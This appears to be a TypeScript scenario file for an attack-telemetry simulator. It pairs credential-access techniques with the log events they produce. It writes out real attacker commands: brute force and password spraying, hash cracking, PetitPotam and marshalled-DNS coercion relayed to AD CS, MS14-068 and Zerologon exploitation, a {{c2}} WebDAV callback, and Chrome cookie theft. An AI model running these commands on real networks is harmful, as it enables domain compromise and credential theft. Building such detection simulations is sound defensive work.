import { t, v } from "../dsl";
import type { ThenAction } from "../types";

/** What the KDC sees of an MS14-068 exchange (both tools below): a PAC-less TGT, then the refused forged-PAC ticket. */
const ms14068Tickets: readonly ThenAction[] = [
  { id: "tgt", kind: "kerberos.tgt", host: "@dc", user: "@user", source: "@workstation", encryption: "0x17" },
  {
    id: "forged",
    kind: "kerberos.tgs",
    host: "@dc",
    user: "@user",
    service: "krbtgt",
    source: "@workstation",
    encryption: "0x17",
    status: "0xf",
  },
];

/** Credential access: the dumping and theft tooling of real intrusions. (continued) */
export const credentialAccessB = [
  t(
    "T1056.004",
    "Credential API hooking",
    "A DLL injected into a process that handles credentials hooks its APIs: RdpThief in mstsc, a banker's hooks in the browser.",
    [
      // RdpThief: injected into the RDP client the user starts, it hooks CredUnPackAuthenticationBufferW and
      // friends and writes what is typed to a file in %TEMP%.
      v(
        "rdpthief-mstsc",
        [
          {
            cmd: '"C:\\Windows\\system32\\mstsc.exe" /v:{{srv}}',
            as: "m",
            parent: "@explorer",
            net: [["@server", 3389]],
            keep: true,
          },
          // The implant already on the host does the injection.
          {
            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
            parent: "@explorer",
            access: ["m", "0x1fffff"],
            thread: "m",
            net: [["{{c2}}", 443]],
            keep: true,
          },
          { by: "m", loads: ["{{appdata}}\\{{name}}\\RdpThief.dll"], files: ["{{tmp}}\\data.bin"] },
        ],
        { shell: "none" },
      ),
      // A banking trojan's form grabber: the loader injects the browser and hooks its send functions.
      v(
        "hook-injection",
        [
          {
            cmd: "{{appdata}}\\{{name}}\\{{name}}.exe",
            parent: "@explorer",
            access: ["@msedge", "0x1fffff"],
            thread: "@msedge",
            net: [["{{c2}}", 443]],
            keep: true,
          },
        ],
        { shell: "none" },
      ),
    ],
  ),
  t("T1110", "Brute force", "Repeated failed logons against a server from one workstation.", [
    v("smb-guessing", [
      {
        cmd: "cmd.exe /c for /f %p in (pw.txt) do net use \\\\{{srv}}\\IPC$ /user:{{domain}}\\{{admin}} %p",
        as: "loop",
      },
      // One net.exe per password in the list, each a failed network logon on the server.
      ...["Spring2024!", "Company123", "Password1", "Welcome2024"].map((pw, k) => ({
        cmd: `net  use \\\\{{srv}}\\IPC$ /user:{{domain}}\\{{admin}} ${pw}`,
        parent: "loop",
        then: [
          {
            id: `f${k + 1}`,
            kind: "logon.failure" as const,
            host: "@server",
            user: "{{admin}}",
            source: "@workstation",
          },
        ],
      })),
    ]),
  ]),
  t("T1110.001", "Password guessing", "Many passwords tried for one account over SMB or RDP.", [
    v("net-use-loop", [
      {
        cmd: "cmd.exe /c for %p in (Winter2024! Summer2024! Welcome1 P@ssw0rd) do @net use \\\\{{dc}}\\IPC$ /user:{{domain}}\\{{user}} %p",
        as: "loop",
      },
      // One net.exe per password in the loop, each a failed network logon on the DC.
      ...["Winter2024!", "Summer2024!", "Welcome1", "P@ssw0rd"].map((pw, k) => ({
        cmd: `net  use \\\\{{dc}}\\IPC$ /user:{{domain}}\\{{user}} ${pw}`,
        parent: "loop",
        then: [
          {
            id: `f${k + 1}`,
            kind: "logon.failure" as const,
            host: "@dc",
            user: "{{user}}",
            source: "@workstation",
          },
        ],
      })),
    ]),
    v("hydra-rdp", [
      {
        cmd: "{{tools}}\\hydra.exe -l {{admin}} -P rockyou.txt rdp://{{srvip}}",
        then: [1, 2, 3, 4, 5].map((n) => ({
          id: `f${n}`,
          kind: "logon.failure" as const,
          host: "@server",
          user: "{{admin}}",
          logonType: 3,
          source: "@workstation",
        })),
      },
    ]),
  ]),
  t("T1110.002", "Password cracking", "Hashcat or John cracking dumped hashes on the host.", [
    v("hashcat", [
      "{{tools}}\\hashcat\\hashcat.exe -m 1000 -a 0 {{tools}}\\ntlm.txt {{tools}}\\rockyou.txt -o cracked.txt",
    ]),
    v("john", ["{{tools}}\\john\\run\\john.exe --format=NT --wordlist=rockyou.txt hashes.txt"]),
  ]),
  t(
    "T1110.003",
    "Password spraying",
    "One password against many domain accounts (DomainPasswordSpray, Kerbrute).",
    [
      v(
        "domainpasswordspray",
        [
          {
            ps: "Invoke-DomainPasswordSpray -Password 'Winter2024!' -OutFile sprayed.txt -Force",
            then: ["alice", "bob", "carol", "dave", "erin", "frank"].map((u, n) => ({
              id: `f${n}`,
              kind: "logon.failure" as const,
              host: "@dc",
              user: u,
              source: "@workstation",
              subStatus: "0xc000006a",
            })),
          },
        ],
        { shell: "ps" },
      ),
      v("kerbrute", [
        {
          cmd: "{{tools}}\\kerbrute.exe passwordspray -d {{dns}} users.txt Spring2025!",
          net: [["@dc", 88]],
          then: ["alice", "bob", "carol", "dave", "erin"].map((u, n) => ({
            id: `k${n}`,
            kind: "kerberos.tgt" as const,
            host: "@dc",
            user: "{{user}}",
            source: "@workstation",
            status: "0x18",
          })),
        },
      ]),
    ],
  ),
  t("T1110.004", "Credential stuffing", "Leaked username/password pairs tried against a server.", [
    v("smb-stuffing", [
      {
        cmd: "{{tools}}\\cme.exe smb {{srvip}} -u users.txt -p passwords.txt --no-bruteforce",
        then: [1, 2, 3, 4].map((n) => ({
          id: `f${n}`,
          kind: "logon.failure" as const,
          host: "@server",
          user: `user${n}`,
          source: "@workstation",
          subStatus: "0xc0000064",
        })),
      },
    ]),
  ]),
  t("T1111", "MFA interception", "A token or OTP grabbed from a phone-link or authenticator app store.", [
    v("authenticator-store", [
      {
        cmd: 'cmd.exe /c copy "{{local}}\\Packages\\Microsoft.YourPhone_8wekyb3d8bbwe\\LocalCache\\Indexed\\*" {{tmp}}',
        reads: ["{{local}}\\Packages\\Microsoft.YourPhone_8wekyb3d8bbwe\\LocalCache\\Indexed\\phone.db"],
      },
    ]),
  ]),
  t(
    "T1187",
    "Forced authentication",
    "SMB/WebDAV authentication coerced with .scf/.url files on a share or PetitPotam-style RPC, incl. the marshalled-SPN DNS trick.",
    [
      // An .scf with a UNC icon on a busy share: every user who browses the folder authenticates to the attacker.
      v("scf-on-share", [
        {
          cmd: "cmd.exe /c (echo [Shell]& echo Command=2& echo IconFile=\\\\{{meip}}\\share\\icon.ico) > {{tmp}}\\@{{rand}}.scf",
          files: ["{{tmp}}\\@{{rand}}.scf"],
        },
        {
          cmd: "cmd.exe /c copy {{tmp}}\\@{{rand}}.scf \\\\{{srv}}\\Public\\@{{rand}}.scf",
          net: [["@server", 445]],
        },
        // A colleague opening the share on another workstation: the SMB client (System) reaches out.
        { by: "@system", host: "@workstation2", net: [["{{meip}}", 445]] },
      ]),
      v("url-icon-file", [
        {
          cmd: "cmd.exe /c (echo [InternetShortcut]& echo URL=https://intranet& echo IconIndex=1& echo IconFile=\\\\{{meip}}\\s\\favicon.ico) > \\\\{{srv}}\\Shared\\Finance\\~Budget.url",
          net: [["@server", 445]],
        },
        { by: "@system", host: "@workstation2", net: [["{{meip}}", 445]] },
      ]),
      // PetitPotam → ntlmrelayx (on the attacker's second box) → AD CS web enrollment: the DC's machine account
      // gets a certificate, used from the foothold for a PKINIT TGT as the DC (then DCSync).
      v("petitpotam", [
        {
          cmd: "{{tools}}\\PetitPotam.exe {{ws2ip}} {{dcip}}",
          net: [["@dc", 445]],
          pipeConnects: ["\\lsarpc"],
          then: [
            {
              id: "coerced",
              kind: "network.connect",
              proc: "@system",
              host: "@dc",
              remote: "{{ws2ip}}",
              port: 445,
            },
            {
              id: "relayed",
              kind: "logon",
              host: "@server",
              session: "certsrv",
              user: "{{dc}}$",
              logonType: 3,
              source: "@workstation2",
              authPackage: "NTLM",
            },
          ],
        },
        {
          cmd: "{{tools}}\\Rubeus.exe asktgt /user:{{dc}}$ /certificate:{{tools}}\\{{dc}}.pfx /ptt /nowrap",
          reads: ["{{tools}}\\{{dc}}.pfx"],
          net: [["@dc", 88]],
          then: [
            {
              id: "pkinit",
              kind: "kerberos.tgt",
              host: "@dc",
              user: "{{dc}}$",
              source: "@workstation",
              preAuthType: "16",
              certificate: {
                issuer: "{{domain}}-{{srv}}-CA",
                serial: "{{rand2}}{{rand}}",
                thumbprint: "{{hex40}}",
              },
            },
          ],
        },
      ]),
      // CVE-2025-33073 style: a DNS record whose name carries a marshalled CREDENTIAL_TARGET_INFORMATION,
      // checked with nslookup, then the server coerced to it (Powermad + PetitPotam).
      v(
        "marshalled-dns-coercion",
        [
          {
            ps: "Import-Module .\\Powermad.ps1; Invoke-DNSUpdate -DNSType A -DNSName {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA -DNSData {{ws2ip}} -Realm {{dns}}",
            net: [["@dc", 389]],
            // Any domain user may add a record to the ADIDNS zone: the DC logs the new dnsNode (5137).
            then: [
              {
                id: "ldap",
                kind: "logon",
                host: "@dc",
                session: "ldap",
                user: "@user",
                logonType: 3,
                source: "@workstation",
                authPackage: "Kerberos",
              },
              {
                id: "record",
                kind: "directory.change",
                host: "@dc",
                session: "ldap",
                operation: "create",
                object:
                  "DC={{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA,DC={{dns}},CN=MicrosoftDNS,DC=DomainDnsZones,{{domaindn}}",
                objectClass: "dnsNode",
                delayMs: 300,
              },
            ],
          },
          {
            cmd: "nslookup.exe {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA {{dcip}}",
            net: [["@dc", 53]],
          },
          {
            cmd: "{{tools}}\\PetitPotam.exe {{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA {{srvip}}",
            net: [["@server", 445]],
            pipeConnects: ["\\lsarpc"],
            then: [
              {
                id: "lookup",
                kind: "dns.query",
                proc: "@lsass",
                host: "@server",
                name: "{{srv}}1UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA.{{dns}}",
              },
              {
                id: "smb",
                kind: "network.connect",
                proc: "@system",
                host: "@server",
                remote: "{{ws2ip}}",
                port: 445,
              },
            ],
          },
        ],
        { shell: "ps" },
      ),
      v("rundll32-webdav", [
        {
          cmd: "rundll32.exe C:\\Windows\\System32\\davclnt.dll,DavSetCookie {{c2}} http://{{c2}}/share",
          net: [["{{c2}}", 80]],
        },
      ]),
    ],
  ),
  t(
    "T1212",
    "Credential access exploit",
    "Public exploits against the DC: MS14-068 PAC forgery, Zerologon.",
    [
      // PyKEK/kekeo ask for a PAC-less TGT, then a TGT carrying a forged PAC; a patched KDC refuses the MD5
      // checksum with KDC_ERR_SUMTYPE_NOSUPP (0xF).
      v(
        "ms14-068-kekeo",
        [
          {
            cmd: '{{tools}}\\kekeo.exe "exploit::ms14068 /domain:{{dns}} /user:{{user}} /password:{{$pw}} /ptt" exit',
            net: [["@dc", 88]],
            then: ms14068Tickets,
          },
        ],
        { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
      ),
      v(
        "ms14-068-goldenpac",
        [
          {
            // Impacket's goldenPac looks the user's SID up over LSARPC first, then runs the MS14-068 exchange.
            cmd: "python.exe goldenPac.py {{dns}}/{{user}}:{{$pw}}@{{dcfqdn}}",
            image: "C:\\Program Files\\Python311\\python.exe",
            cwd: "{{tools}}\\impacket\\examples",
            net: [
              ["@dc", 445],
              ["@dc", 88],
            ],
            then: ms14068Tickets,
          },
        ],
        { vars: { pw: "{{Summer2024!|Welcome1!|P@ssw0rd123}}" } },
      ),
      v("zerologon", [
        {
          cmd: "{{tools}}\\SharpZeroLogon.exe {{dcfqdn}} -reset",
          net: [
            ["@dc", 135],
            ["@dc", 49667],
          ],
        },
      ]),
    ],
  ),
  t("T1539", "Web session cookie theft", "Browser cookie databases copied or read while the browser runs.", [
    v("copy-cookies", [
      {
        cmd: 'cmd.exe /c copy "{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies" {{tmp}}\\c.db',
        reads: ["{{local}}\\Google\\Chrome\\User Data\\Default\\Network\\Cookies"],
        files: ["{{tmp}}\\c.db"],
      },
    ]),
    v("esentutl-webcache", [
      {
        cmd: 'esentutl.exe /r V01 /l "{{local}}\\Microsoft\\Windows\\WebCache" /s "{{local}}\\Microsoft\\Windows\\WebCache" /d "{{local}}\\Microsoft\\Windows\\WebCache"',
      },
    ]),
    v("chrome-debug-port", [
      '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --headless --remote-debugging-port=9222 --user-data-dir="{{local}}\\Google\\Chrome\\User Data"',
    ]),
  ]),
];
